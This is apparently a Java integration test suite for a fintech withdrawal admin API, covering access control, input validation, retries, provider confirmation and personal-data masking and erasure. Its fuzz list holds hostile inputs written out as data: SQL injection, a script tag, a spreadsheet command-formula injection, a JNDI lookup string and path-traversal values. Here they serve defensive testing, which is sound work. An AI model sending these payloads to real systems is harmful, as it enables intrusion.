package id.tm.finance.withdrawal;

import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static id.tm.finance.Money.sql;
import static id.tm.finance.withdrawal.WithdrawalSteps.ADMIN;
import static id.tm.finance.withdrawal.WithdrawalSteps.MINE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.WireMock;
import id.tm.finance.Money;
import id.tm.finance.withdrawal.WithdrawalSteps.Saver;
import id.tm.platform.privacy.PersonalData;
import id.tm.testing.Actor;
import id.tm.testing.Actors;
import id.tm.testing.BooksBalanced;
import id.tm.testing.ProviderStub;
import id.tm.testing.ServiceTest;
import io.quarkus.arc.All;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

@ServiceTest
@ExtendWith(BooksBalanced.class)
class WithdrawalAdminTest {

    private static final List<Object> NASTY = List.of(
            "",
            "   ",
            "\u0000",
            "a\u0000b",
            "😀😀😀",
            "' or '1'='1' --",
            "<script>alert(1)</script>",
            "=cmd|'/c calc'!A1",
            "${jndi:ldap://x.test/a}",
            -1,
            0,
            1.5,
            Long.MAX_VALUE,
            true,
            List.of(1),
            Map.of("a", 1),
            "x".repeat(10_000));

    @Inject
    WithdrawalSteps steps;

    @Inject
    @All
    List<PersonalData> personalData;

    private Saver saver;

    @BeforeEach
    void arrive() {
        steps.parkAllOthers();
        saver = steps.saver(300_000);
    }

    @Test
    void whatIsAnothersIsNotThere() {
        UUID id = steps.asked(saver, 100_000);
        Actor other = Actors.member();
        Actor stranger = Actors.admin("payments:read");
        other.given().get(MINE + "/{id}", id).then().statusCode(404).body("code", equalTo("withdrawal-not-found"));
        other.given().post(MINE + "/{id}/cancellation", id).then().statusCode(404);
        other.given().get(MINE).then().statusCode(200).body("items.size()", equalTo(0));
        assertThat(steps.ask(new Saver(other, saver.wallet(), saver.account()), 50_000)
                        .statusCode())
                .isEqualTo(404);

        for (RequestSpecification nobody : List.of(anonymous(), anonymous())) {
            nobody.get(MINE + "/{id}", id).then().statusCode(401);
        }
        anonymous().body(Map.of("gross", 1)).post(MINE + "/preview").then().statusCode(401);
        anonymous().get(ADMIN).then().statusCode(401);
        for (Actor without : List.of(other, stranger)) {
            without.given().get(ADMIN).then().statusCode(403);
            without.given().get(ADMIN + "/{id}", id).then().statusCode(403);
            without.given().post(ADMIN + "/{id}/approval", id).then().statusCode(403);
            without.given()
                    .body(Map.of("reason", "Nothing of theirs"))
                    .post(ADMIN + "/{id}/rejection", id)
                    .then()
                    .statusCode(403);
            without.given().post(ADMIN + "/{id}/retry", id).then().statusCode(403);
            recap(without, "2026-11", "Curious").then().statusCode(403);
        }
        // Who reads does not approve, and who approves does not retry.
        Actors.admin("withdrawals:read")
                .given()
                .post(ADMIN + "/{id}/approval", id)
                .then()
                .statusCode(403);
        Actors.admin("withdrawals:approve")
                .given()
                .post(ADMIN + "/{id}/retry", id)
                .then()
                .statusCode(403);
        assertThat(steps.state(id)).isEqualTo("REQUESTED");
        UUID nothing = UUID.randomUUID();
        Actor admin = Actors.superAdmin();
        admin.given().get(ADMIN + "/{id}", nothing).then().statusCode(404);
        steps.approve(admin, nothing).then().statusCode(404);
        admin.given().post(ADMIN + "/{id}/retry", nothing).then().statusCode(404);
    }

    @Test
    void whateverIsSentNothingChangesThatShouldNot() {
        UUID id = steps.asked(saver, 100_000);
        Actor admin = Actors.superAdmin();
        String before = Money.state();
        for (Object nasty : NASTY) {
            List<Response> answers = new ArrayList<>();
            Map<String, Object> body = new HashMap<>(Map.of("userBankId", saver.account(), "gross", nasty));
            answers.add(ask(body));
            answers.add(ask(Map.of("userBankId", nasty, "gross", 100_000)));
            answers.add(ask(Map.of("userBankId", saver.account(), "gross", 100_000, "extra", nasty)));
            answers.add(saver.actor().given().body(Map.of("gross", nasty)).post(MINE + "/preview"));
            boolean words = nasty instanceof String text
                    && List.of("😀😀😀", "' or '1'='1' --", "=cmd|'/c calc'!A1", "${jndi:ldap://x.test/a}")
                            .contains(text);
            if (!words) answers.add(admin.given().body(Map.of("reason", nasty)).post(ADMIN + "/{id}/rejection", id));
            for (Response answer : answers) {
                assertThat(answer.statusCode())
                        .as("%s: %s", nasty, answer.asString())
                        .isBetween(400, 422);
                assertThat(answer.contentType()).startsWith("application/problem+json");
            }
        }
        for (String broken : List.of("", "{", "[]", "null", "\"text\"", "{\"gross\":")) {
            Response answer = saver.actor()
                    .given()
                    .header("Idempotency-Key", UUID.randomUUID().toString())
                    .body(broken)
                    .post(MINE);
            assertThat(answer.statusCode()).as(broken).isEqualTo(400);
        }
        saver.actor()
                .given()
                .body(Map.of("userBankId", saver.account(), "gross", 100_000))
                .post(MINE)
                .then()
                .statusCode(400)
                .body("code", equalTo("idempotency-key-required"));
        for (String bad : List.of("not-an-id", "'", "%00", "..%2f")) {
            assertThat(admin.given()
                            .urlEncodingEnabled(false)
                            .get(ADMIN + "/" + bad)
                            .statusCode())
                    .as(bad)
                    .isBetween(400, 404);
        }
        for (String month : List.of("2026-13", "2026-00", "26-01", "2026", "x", "2026-1", "=1")) {
            recap(admin, month, "Filing").then().statusCode(400);
        }
        for (String reason : List.of("", "ab", "<script>", "x".repeat(501))) {
            recap(admin, "2026-01", reason).then().statusCode(400);
        }
        admin.given()
                .accept(ContentType.ANY)
                .get("/api/v1/admin/tax-recaps/2026-01")
                .then()
                .statusCode(400);
        saver.actor().given().queryParam("sort", "gross").get(MINE).then().statusCode(400);

        assertThat(Money.state()).isEqualTo(before);
        assertThat(steps.state(id)).isEqualTo("REQUESTED");
        assertThat(sql().number("select count(*) from withdrawals where user_id = '"
                        + saver.actor().id() + "'"))
                .isEqualTo(1);
    }

    @Test
    void aRetryAsksFirstAndOrdersOnlyWhatIsUnknown() {
        UUID id = steps.asked(saver, 100_000);
        Actor admin = Actors.admin("withdrawals:retry");
        admin.given().post(ADMIN + "/{id}/retry", id).then().statusCode(409).body("currentState", equalTo("REQUESTED"));
        steps.approve(Actors.admin("withdrawals:approve"), id).then().statusCode(200);
        admin.given()
                .post(ADMIN + "/{id}/retry", id)
                .then()
                .statusCode(200)
                .body("state", equalTo("PROCESSING"))
                .body("sendings", equalTo(1))
                .body("provider", equalTo("SIMULATOR"));
        steps.acts(id, "succeed");
        admin.given()
                .post(ADMIN + "/{id}/retry", id)
                .then()
                .statusCode(200)
                .body("state", equalTo("SUCCEEDED"))
                .body("sendings", equalTo(1))
                .body("history.size()", equalTo(4));
        admin.given().post(ADMIN + "/{id}/retry", id).then().statusCode(409);
    }

    @Test
    void aWorkerThatIsAtItIsNotDisturbed() {
        UUID id = steps.approved(saver, 100_000);
        sql().execute("update withdrawals set lease_until = now() + interval '1 minute' where id = '" + id + "'");
        Actors.admin("withdrawals:retry")
                .given()
                .post(ADMIN + "/{id}/retry", id)
                .then()
                .statusCode(409)
                .body("code", equalTo("concurrent-change"));
        // and when the provider that has the order does not say
        sql().execute("update withdrawals set lease_until = null, sendings = 1, sent_at = now(), provider = 'XENDIT'"
                + " where id = '" + id + "'");
        Actors.admin("withdrawals:retry")
                .given()
                .post(ADMIN + "/{id}/retry", id)
                .then()
                .statusCode(503)
                .header("Retry-After", "60");
        assertThat(steps.state(id)).isEqualTo("PROCESSING");
        assertThat(sql().number("select sendings from withdrawals where id = '" + id + "'"))
                .isEqualTo(1);
    }

    @Test
    void newsAreConfirmedByWhoHasTheOrderWhateverTheSettingSaysByNow() {
        UUID id = steps.paid(saver, 100_000);
        long net = sql().number("select net from withdrawals where id = '" + id + "'");
        sql().execute("update withdrawals set provider = 'XENDIT' where id = '" + id + "'");
        WireMockServer xendit = ProviderStub.start();
        try {
            xendit.stubFor(get(urlPathEqualTo("/v2/payouts"))
                    .withQueryParam("reference_id", WireMock.equalTo(id.toString()))
                    .willReturn(okJson("{\"data\":[{\"id\":\"disb-1\",\"reference_id\":\"" + id
                            + "\",\"status\":\"REVERSED\",\"amount\":" + net + "}]}")));
            steps.callback(id, "reversed").then().statusCode(200);
            steps.workOff();
        } finally {
            xendit.stop();
        }
        assertThat(steps.state(id)).isEqualTo("REVERSED");
        assertThat(steps.wallet(saver.wallet())).isEqualTo("300000 + 0");
    }

    @Test
    void nothingSecretStandsInTheDatabase() {
        UUID id = steps.paid(saver, 100_000);
        String row = String.join("", sql().texts("select w::text from withdrawals w where id = '" + id + "'"));
        assertThat(row)
                .doesNotContain("1234567890")
                .doesNotContain("SARI WULANDARI")
                .contains("7890");
        String log = String.join("", sql().texts("select l::text from activity_log l where subject_id = '" + id + "'"));
        assertThat(log).contains("SUCCEEDED").doesNotContain("1234567890").doesNotContain("SARI WULANDARI");
    }

    @Test
    void theOwnersDataAreGivenOutAndErasedButForTheBooks() {
        UUID paid = steps.paid(saver, 100_000);
        UUID open = steps.asked(saver, 100_000);
        PersonalData withdrawals = personalData.stream()
                .filter(each -> each.section().equals("withdrawals"))
                .findFirst()
                .orElseThrow();
        assertThat(withdrawals.export(saver.actor().id()).toString()).contains("•••• 7890", paid.toString());
        assertThat(withdrawals.export(Actors.member().id())).isNull();

        QuarkusTransaction.requiringNew()
                .run(() -> withdrawals.erase(saver.actor().id()));

        assertThat(sql().texts("select num_nonnulls(account_number, account_holder) from withdrawals where id in ('"
                        + paid + "', '" + open + "') order by created_at"))
                .containsExactly("0", "2");
        assertThat(steps.state(paid)).isEqualTo("SUCCEEDED");
    }

    private Response ask(Map<String, Object> body) {
        return saver.actor()
                .given()
                .header("Idempotency-Key", UUID.randomUUID().toString())
                .body(body)
                .post(MINE);
    }

    private static Response recap(Actor admin, String month, String reason) {
        return admin.given()
                .accept(ContentType.ANY)
                .queryParam("reason", reason)
                .get("/api/v1/admin/tax-recaps/{month}", month);
    }

    private static RequestSpecification anonymous() {
        return RestAssured.given().contentType(ContentType.JSON);
    }
}
